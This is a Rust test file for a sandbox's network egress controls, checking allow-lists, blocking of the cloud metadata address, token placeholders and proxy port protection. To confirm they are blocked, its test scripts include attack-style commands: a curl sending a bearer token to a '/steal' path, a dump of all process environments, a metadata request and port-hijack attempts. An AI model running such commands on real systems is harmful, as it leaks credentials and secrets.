//! Checks every tier's egress path must pass: a real HTTP/1.1 upstream on the host's
//! loopback, the allow-list seen from inside a sandbox, and a grant's placeholder that must
//! never leave for a host it was not granted for.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use cordon_core::{
    Backend, ExecOutcome, ExecRequest, Grant, GrantSecret, Language, OutputStream, SandboxSpec,
};

/// A loopback HTTP server answering every request with [`Upstream::BODY`]; records the head
/// of each request it saw.
pub struct Upstream {
    pub port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Upstream {
    pub const BODY: &'static str = "hello-from-upstream";

    pub fn start() -> Upstream {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for mut conn in listener.incoming().flatten() {
                let mut reader = BufReader::new(conn.try_clone().unwrap());
                let mut head = String::new();
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                        break;
                    }
                    head.push_str(&line);
                }
                log.lock().unwrap().push(head);
                let _ = write!(
                    conn,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
                    Self::BODY.len(),
                    Self::BODY
                );
            }
        });
        Upstream { port, seen }
    }

    /// Heads of the requests seen so far, in order.
    pub fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn text(v: &[u8]) -> String {
    String::from_utf8_lossy(v).into_owned()
}

fn egress_events(o: &ExecOutcome) -> Vec<serde_json::Value> {
    o.extra
        .egress
        .iter()
        .map(|e| serde_json::to_value(e).unwrap_or_default())
        .collect()
}

/// With only the upstream's `127.0.0.1/32:<port>` allowed: curl and Python reach it through
/// the proxy; another port, the metadata address and a loopback alias get 403 (and are
/// audited); a socket that ignores the proxy variables reaches nothing.
pub fn allowed_hosts_only(b: &dyn Backend, mut spec: SandboxSpec) {
    let up = Upstream::start();
    let p = up.port;
    spec.egress.allow = vec![format!("127.0.0.1/32:{p}").parse().unwrap()];
    let script = format!(
        "curl -s --max-time 5 http://127.0.0.1:{p}/curl; echo;
         python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{p}/py', timeout=5).read().decode())\";
         curl -s --max-time 5 -o /dev/null -w 'other-port %{{http_code}}\\n' http://127.0.0.1:{q}/;
         curl -s --max-time 5 -o /dev/null -w 'metadata %{{http_code}}\\n' http://169.254.169.254/latest/meta-data/;
         curl -s --max-time 5 -o /dev/null -w 'loopback-alias %{{http_code}}\\n' http://127.0.0.2:{p}/;
         python3 -c \"
import socket
for port in ({p}, 80, 443):
  try:
    socket.create_connection(('127.0.0.1', port), timeout=3); print('DIRECT', port)
  except OSError:
    print('direct-refused', port)
\"",
        q = p.wrapping_add(1)
    );
    let mut sb = b.create(&spec).unwrap();
    let o = sb
        .exec(
            &ExecRequest::code(Language::Bash, script),
            &mut |_: OutputStream, _: &[u8]| {},
        )
        .unwrap();
    sb.destroy().unwrap();
    let out = text(&o.stdout);
    let twice = format!("{0}\n{0}\n", Upstream::BODY);
    assert!(out.starts_with(&twice), "{out}\n{}", text(&o.stderr));
    for line in [
        "other-port 403",
        "metadata 403",
        "loopback-alias 403",
        &format!("direct-refused {p}"),
        "direct-refused 80",
        "direct-refused 443",
    ] {
        assert!(out.contains(line), "missing {line:?}: {out}");
    }
    assert!(!out.contains("DIRECT"), "{out}");
    let seen = up.requests();
    assert_eq!(seen.len(), 2, "the upstream saw {seen:?}");
    assert!(seen[0].starts_with("GET /curl ") && seen[1].starts_with("GET /py "));
    // Repeated identical denials are one row with a count.
    let denies: u64 = o
        .extra
        .egress
        .iter()
        .filter(|e| e.decision == cordon_core::EgressDecision::Deny)
        .map(|e| e.count)
        .sum();
    assert!(denies >= 3, "denials not audited: {:?}", egress_events(&o));
}

/// A grant for `api.github.com`: the sandbox sees a placeholder, never the secret; sending
/// the placeholder to another (allowed) host is refused and audited as exfiltration; the
/// sandbox has the per-sandbox CA; files taken out are scanned for credentials.
pub fn grant_placeholder_stays_inside(b: &dyn Backend, mut spec: SandboxSpec) {
    let up = Upstream::start();
    let p = up.port;
    let secret = format!("ghp_{}", "Zq9".repeat(12));
    let dir = std::env::temp_dir().join(format!(
        "cordon-grant-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    let secret_file = dir.join("token");
    std::fs::write(&secret_file, &secret).unwrap();
    spec.egress.allow = vec![format!("127.0.0.1/32:{p}").parse().unwrap()];
    spec.grants.push(Grant {
        name: "github".into(),
        env_var: "GITHUB_TOKEN".into(),
        secret: GrantSecret::value(secret.clone()),
        hosts: cordon_core::egress::parse_patterns(&["api.github.com"]).unwrap(),
        header: "authorization".into(),
        methods: vec![],
        path_prefixes: vec![],
    });
    let mut sb = b.create(&spec).unwrap();
    let o = sb
        .exec(
            &ExecRequest::code(
                Language::Bash,
                format!(
                    "echo \"token=$GITHUB_TOKEN\"; head -1 {ca};
                     curl -s --max-time 5 -o /dev/null -w 'exfil %{{http_code}}\\n' -H \"Authorization: Bearer $GITHUB_TOKEN\" http://127.0.0.1:{p}/steal;
                     env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; true",
                    ca = cordon_egress::DEFAULT_CA_CERT_PATH
                ),
            ),
            &mut |_: OutputStream, _: &[u8]| {},
        )
        .unwrap();
    let out = text(&o.stdout);
    assert!(
        !out.contains(&secret),
        "the real secret reached the sandbox"
    );
    let ph = out
        .lines()
        .next()
        .unwrap()
        .trim_start_matches("token=")
        .to_string();
    assert!(ph.len() >= 16 && ph != secret, "no placeholder: {out}");
    assert!(out.contains("-----BEGIN CERTIFICATE-----"), "no CA: {out}");
    assert!(out.contains("exfil 403"), "{out}");
    assert!(
        up.requests().is_empty(),
        "the placeholder reached a non-granted host"
    );
    assert!(
        egress_events(&o)
            .iter()
            .any(|e| e["decision"] == "exfiltration"),
        "{:?}",
        egress_events(&o)
    );
    // Files taken out are scanned too: a planted credential is flagged.
    sb.put_file(
        "key.pem",
        b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n",
        0o600,
    )
    .unwrap();
    let _ = sb.get_file("key.pem", 4096).unwrap();
    let report = sb.report();
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.file.as_deref() == Some("key.pem")),
        "{report:?}"
    );
    sb.destroy().unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
}

/// This host's address on its route out (a UDP socket's source for a documentation address:
/// nothing is sent), when it has one that is not loopback.
fn host_address() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

/// The later exec of [`own_loopback_servers`]: reaches the server, attacks the forwarder's
/// port, then tries the way out.
const OWN_SERVERS_CLIENT: &str = r#"
import errno, http.client, os, socket, sys, time, urllib.parse, urllib.request
def name(e):
    return errno.errorcode.get(e.errno, str(e.errno))
last = None
for _ in range(600):
    try:
        socket.create_connection(('127.0.0.1', 8123), timeout=5).close()
        last = None
        break
    except OSError as e:
        last = e
        # Not listening yet: the server is starting; anything else is an answer.
        if e.errno != errno.ECONNREFUSED:
            break
        time.sleep(0.05)
if last is None:
    c = http.client.HTTPConnection('127.0.0.1', 8123, timeout=10)
    c.request('GET', '/hello.txt')
    r = c.getresponse()
    print('own-server', r.status, r.read().decode().strip())
else:
    print('own-server-unreached', name(last))
port = urllib.parse.urlparse(os.environ['HTTP_PROXY']).port
for fam, addr, v6only in ((socket.AF_INET, '127.0.0.1', 0), (socket.AF_INET, '0.0.0.0', 0),
                          (socket.AF_INET6, '::', 0), (socket.AF_INET6, '::', 1),
                          (socket.AF_INET6, '::1', 1)):
    what = f'[{addr}]' + ('v6only' if v6only else '')
    try:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        if fam == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, v6only)
        s.bind((addr, port))
        s.listen()
        print('TOOK', what)
    except OSError as e:
        print('held', what, name(e))
up = int(sys.argv[1])
print('via-proxy', urllib.request.urlopen(f'http://127.0.0.1:{up}/own', timeout=10).read().decode())
for host, p in ((sys.argv[2], int(sys.argv[3])), ('127.0.0.1', up)):
    try:
        socket.create_connection((host, p), timeout=3)
        print('DIRECT', host)
    except OSError as e:
        print('direct-refused', host, name(e))
"#;

/// A sandbox's own servers (issue 47): a server a background exec starts on the sandbox's
/// loopback is reached by a later exec; the egress forwarder's port cannot be taken by a
/// program (on `127.0.0.1`, a wildcard or IPv6, with `SO_REUSEADDR` and `SO_REUSEPORT`), and
/// the proxy still answers after the attempts; a direct connection to this host's own
/// non-loopback address, or to the host's loopback, reaches nothing.
pub fn own_loopback_servers(b: &dyn Backend, mut spec: SandboxSpec) {
    let up = Upstream::start();
    let p = up.port;
    spec.egress.allow = vec![format!("127.0.0.1/32:{p}").parse().unwrap()];
    // A listener on this host's address out, which a sandbox sharing the host's network
    // would reach (a documentation address where the host has none).
    let outside = host_address().and_then(|ip| TcpListener::bind((ip, 0)).ok());
    let (out_host, out_port) = match &outside {
        Some(l) => {
            let a = l.local_addr().unwrap();
            l.set_nonblocking(true).unwrap();
            (a.ip().to_string(), a.port())
        }
        None => ("192.0.2.1".to_string(), 80),
    };
    let mut sb = b.create(&spec).unwrap();
    let server = sb
        .start_background(&ExecRequest::code(
            Language::Bash,
            "cd /tmp && echo own-server-page > hello.txt && exec python3 -m http.server 8123 --bind 127.0.0.1",
        ))
        .unwrap();
    let o = sb
        .exec(
            &ExecRequest::argv([
                "python3".to_string(),
                "-u".to_string(),
                "-c".to_string(),
                OWN_SERVERS_CLIENT.to_string(),
                p.to_string(),
                out_host.clone(),
                out_port.to_string(),
            ]),
            &mut |_: OutputStream, _: &[u8]| {},
        )
        .unwrap();
    let server_out = sb
        .read_background(server, [0, 0], 64 << 10)
        .map(|p| format!("{}{} ({:?})", text(&p.stdout), text(&p.stderr), p.exit))
        .unwrap_or_default();
    sb.destroy().unwrap();
    let out = text(&o.stdout);
    let why = format!(
        "{out}\nstderr: {}\n({:?})\nthe server's output: {server_out}",
        text(&o.stderr),
        o.termination
    );
    assert!(
        out.contains("own-server 200 own-server-page"),
        "a later exec did not reach the server: {why}"
    );
    assert!(
        !out.contains("TOOK"),
        "a program took the proxy's port: {why}"
    );
    // The forwarder holds the port (not merely a rule refusing every bind).
    for line in ["held [127.0.0.1] EADDRINUSE", "held [0.0.0.0] EADDRINUSE"] {
        assert!(out.contains(line), "missing {line:?}: {why}");
    }
    assert!(
        out.contains(&format!("via-proxy {}", Upstream::BODY)),
        "the proxy no longer answers: {why}"
    );
    assert!(
        !out.contains("DIRECT"),
        "a direct connection got out: {why}"
    );
    for host in [out_host.as_str(), "127.0.0.1"] {
        assert!(
            out.contains(&format!("direct-refused {host} ")),
            "missing the direct try of {host}: {why}"
        );
    }
    if let Some(l) = outside {
        assert!(
            l.accept().is_err(),
            "a sandbox reached this host's address {out_host}:{out_port}"
        );
    }
    let seen = up.requests();
    assert_eq!(seen.len(), 1, "the upstream saw {seen:?}");
}
